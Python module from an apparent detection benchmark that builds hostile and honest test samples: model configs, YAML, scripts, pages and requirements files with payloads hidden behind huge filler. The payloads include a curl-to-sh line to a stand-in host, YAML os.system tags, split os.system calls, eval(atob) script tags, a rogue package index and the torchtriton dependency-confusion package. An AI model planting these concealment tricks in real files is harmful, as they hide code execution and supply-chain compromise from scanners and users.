"""Settings, code, pages and requirements with a payload behind a crowd or a bound."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
from typing import TYPE_CHECKING

from benchmarks.detection.families.pickle_wrapped import zip_of
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

    Files = dict[str, bytes]

__all__ = ["samples"]

_MIB = 1 << 20
_PIPE = b"curl http://host.example/x | sh\n"
_EVAL = b"<script>eval(atob('YWxlcnQoMSk='))</script>"
_CHILD = b"require('child_process').exec('echo hello')"
_CODE = b"import os\nos.system('echo hello')\n"
_IN_PIECES = b"import os\ngetattr(os, 'sys' + 'tem')('echo hello')\n"
_TAG = b"\nevil: !!python/object/apply:os.system ['echo hello']\n"
_ELSEWHERE = b'"auto_map":{"AutoModel":"other/repo--code.Model"}}'
_AUTO_MAP = json.dumps({"auto_map": {"AutoModel": "m.Model"}}).encode()
# In two pieces: no file of the project names an index.
_INDEX = b"--extra-index" + b"-url http://host.example/simple\n"
_STOLEN = b"torchtriton==2.0.0\n"


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _deflated(files: Files) -> bytes:
    return zip_of(files, zipfile.ZIP_DEFLATED)


# Objects that loaders build by name.


def _node(module: str, name: str, loader: str) -> dict[str, object]:
    return {
        "__module__": module,
        "__class__": name,
        "__loader__": loader,
        "content": {},
    }


def _skops(nodes: list[dict[str, object]]) -> Files:
    root = {**_node("builtins", "list", "ListNode"), "content": nodes, "protocol": 2}
    return {"model.skops": _deflated({"schema.json": _json(root)})}


def _layer(number: int, classes: int = 10_000) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": f"dense_{number}", "units": 4},
        "registered_name": f"Custom>Dense{number % classes}",
    }


def _built() -> Iterator[tuple[str, Files]]:
    for module in ("sklearn.tree._classes", "weights"):
        crowd = [_node(module, f"Tree{n}", "ObjectNode") for n in range(2500)]
        evil = _node("os", "system", "FunctionNode")
        yield f"skops-{module.split('.')[0]}", _skops([*crowd, evil])
    layers = [_layer(number) for number in range(2500)]
    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}
    endings: dict[str, dict[str, object]] = {
        "lambda": {"class_name": "Lambda", "config": {"function": code}},
        "function": {"module": "os", "class_name": "function", "config": "system"},
    }
    for name, ending in endings.items():
        model = {"class_name": "Sequential", "config": {"layers": [*layers, ending]}}
        yield f"keras-{name}", {"config.json": _json(model)}
        yield (
            f"keras-{name}-file",
            {"m.keras": _deflated({"config.json": _json(model)})},
        )
    hydra: dict[str, object] = {
        f"part{n}": {"_target_": f"torch.nn.Linear{n}"} for n in range(2500)
    }
    hydra["evil"] = {"_target_": "os.system", "command": "echo hello"}
    yield "hydra", {"config.json": _json(hydra)}
    problems: list[object] = [
        {"class_name": "TorchModuleWrapper", "config": {"module": "\u00e9"}}
    ] * 150
    forged = _node("numpy", "add", "OperatorFuncNode")
    yield "problems", {"config.json": _json([*problems, forged])}


# Settings.


def _settings() -> Iterator[tuple[str, Files]]:
    values = b'{"x":[' + b"1," * 2_100_000 + b"1],"
    for name, entry in {
        "auto-map": _ELSEWHERE,
        "auto-map-in-escapes": _ELSEWHERE.replace(b"auto", b"\\u0061uto"),
        "trust": b'"trust_remote_code":true}',
        "template": b'"chat_template":"{{ x.__class__ }}"}',
        "target": b'"_target_":"os.system"}',
        "skops": b'"__loader__":"FunctionNode","__class__":"system"}',
    }.items():
        yield f"json-values-{name}", {"config.json": values + entry}
    yield "json-bytes", {"config.json": b'{"x":1,' + b" " * (65 * _MIB) + _ELSEWHERE}
    crowd: dict[str, str] = {f"A{n}": "x.Y" for n in range(1200)}
    entries = _json({"auto_map": {**crowd, "AutoModel": "other/repo--x.Y"}})
    yield "json-entries", {"config.json": entries, "x.py": b"class Y: pass\n"}
    crowd = {f"A{n}": f"x.Y{n}" for n in range(1200)}
    entries = _json({"auto_map": {**crowd, "AutoModel": "other/repo--x.Y"}})
    yield "json-other-entries", {"config.json": entries, "x.py": b"class Y: pass\n"}
    long = b"a" * (_MIB + 9)
    yield "yaml-bytes", {"config.yaml": b"x: " + long + _TAG}
    yield "yaml-comment", {"config.yaml": b"# " + long + _TAG}
    yield "yaml-lines", {"config.yaml": b"- 1\n" * 300_000 + _TAG}
    yield "yaml-target", {"config.yaml": b"# " + long + b"\n_target_: os.system\n"}
    yield "yaml-auto-map", {"config.yaml": b"# " + long + b"\nauto_map: {A: b.c}\n"}
    handle = b"%TAG ! tag:yaml.org,2002:python/\n---\n"
    named = handle + b"# " + long + b"\nevil: !name:os.system\n"
    yield "yaml-handle", {"config.yaml": named}
    parts = {f"a{n}.yaml": b"x: " + b"a" * 200_000 for n in range(6)}
    yield "yaml-members", {"a.zip": _deflated({**parts, "z.yaml": _TAG})}


# Code, scripts and pages.


def _code() -> Iterator[tuple[str, Files]]:
    for name, code in {
        "long-comment": b"#" + b"x" * (9 * _MIB) + b"\n" + _CODE,
        "comment-pieces": b"#" + b"x" * (5 * _MIB) + b"\n" + _IN_PIECES,
        "lines": b"x=1\n" * 100_000 + _IN_PIECES,
        "brackets": b"x=" + b"(" * 150 + b"1" + b")" * 150 + b"\n" + _IN_PIECES,
    }.items():
        yield f"{name}-asked-for", {"m.py": code, "config.json": _AUTO_MAP}
        yield f"{name}-setup", {"setup.py": code}
        yield f"{name}-handler", {"handler.py": code}


def _scripts() -> Iterator[tuple[str, Files]]:
    first = b"#!/bin/sh\n"
    for name, filler in {
        "long-comment": b"#" + b"x" * 300_000 + b"\n",
        "blanks": b":" + b" " * 5000 + b"; ",
        "words": b":" + b" x" * 5000 + b"; ",
        "empty-lines": b"\n" * 200_010,
        "joined-lines": b"x=1 \\\n" * 3000 + b"; ",
        "comment-that-goes-on": b"# a comment \\\n",
        "many-lines": b"x=1\n" * 400_000,
    }.items():
        yield f"shell-{name}", {"install.sh": first + filler + _PIPE}
    for name, filler in {
        "blanks": b" " * 5000,
        "many-blanks": b" " * (2 * _MIB),
        "empty-lines": b"\n" * (2 * _MIB),
        "text": b"<p>text</p>\n" * 200_000,
        "one-line": b"<p>text</p>" * 200_000,
    }.items():
        page = b"<html>" + filler + _EVAL + b"</html>"
        yield f"page-{name}", {"page.html": page}
        yield (
            f"node-{name}",
            {"tool.js": filler.replace(b"<p>text</p>", b"x;") + _CHILD},
        )


# Requirements.


def _requirements() -> Iterator[tuple[str, Files]]:
    names = b"".join(b"p%d==1.0\n" % number for number in range(21_000))
    for name, text in {
        "names-index": names + _INDEX,
        "names-package": names + _STOLEN,
        "comment": b"#" + b"x" * (5 * _MIB) + b"\n" + _STOLEN,
        "comments": b"#\n" * 300_000 + _STOLEN,
        "blanks": b" " * 5000 + _STOLEN,
        "joined-lines": b" \\\n" * 5000 + _STOLEN,
        "long-line": b"a" * 70_000 + b"\n" + _INDEX,
    }.items():
        yield name, {"requirements.txt": text}
    items = b"".join(b"  - p%d==1.0\n" % number for number in range(21_000))
    environment = b"dependencies:\n- pip:\n" + items + b"  - " + _STOLEN
    yield "environment", {"environment.yml": environment}
    line = b"[project]\ndependencies = [" + b" " * 5000 + b"'torchtriton==2.0.0']\n"
    yield "project-line", {"pyproject.toml": line}


# What is large, or many, and honest.


def _tar_of(files: Files) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def _honest() -> Iterator[tuple[str, Files]]:
    words = "".join(f'"\u2581word{n}": {n}\n' for n in range(120_000))
    yield "vocabulary", {"vocab.yml": words.encode()}
    part = b"_target_: torch.nn.Linear\nin_features: 4\nout_features: 4\n# %s\n"
    parts = {f"conf/layer{n}.yaml": part % (b"x" * 4000) for n in range(400)}
    yield "settings-in-an-archive", {"conf.tar.gz": gzip.compress(_tar_of(parts))}
    layers = [_layer(number, 0x28) for number in range(5000)]
    for layer in layers:
        layer["registered_name"] = None
    model = {"class_name": "Sequential", "config": {"layers": layers}}
    yield "layers", {"config.json": _json({"module": "keras", **model})}
    trees = [
        _node("sklearn.tree._classes", "DecisionTreeRegressor", "ObjectNode")
        for _ in range(5000)
    ]
    yield "trees", _skops(trees)
    lock = b"".join(
        b"package%d==1.%d \\\n    --hash=sha256:%064x\n" % (n, n, n)
        for n in range(3000)
    )
    yield "requirements", {"requirements.txt": lock}
    minified = b"var a=function(b){return b+1};" * 60_000
    page = b"<html><body><script>" + minified + b"</script></body></html>"
    yield "page", {"report.html": page}
    yield "script", {"prepare.sh": b"#!/bin/sh\n" + b"echo 'a line of many'\n" * 40_000}
    table = b"TABLE = [\n" + b"    (1, 2, 3),\n" * 60_000 + b"]\n"
    yield "table", {"tools/table.py": table}
    ties = b"".join(b"  - !!python/tuple [%d, %d]\n" % (n, n) for n in range(3000))
    yield "tuples", {"config.yaml": b"anchors:\n" + ties}


def samples() -> Iterator[Sample]:
    """Give one sample for each crowd and bound, and honest files that are large."""
    for kind, made in {
        "built": _built(),
        "settings": _settings(),
        "code": _code(),
        "script": _scripts(),
        "requirements": _requirements(),
    }.items():
        for name, files in made:
            yield _sample(f"{kind}-{name}", f"{kind} beyond a bound", files)
    for name, files in _honest():
        yield _sample(f"honest-{name}", "honest", files)


def _sample(name: str, technique: str, files: Files) -> Sample:
    return Sample(
        name=name,
        family="crowds-texts",
        technique=technique,
        truth=Truth.HONEST if technique == "honest" else Truth.HOSTILE,
        files=files,
    )
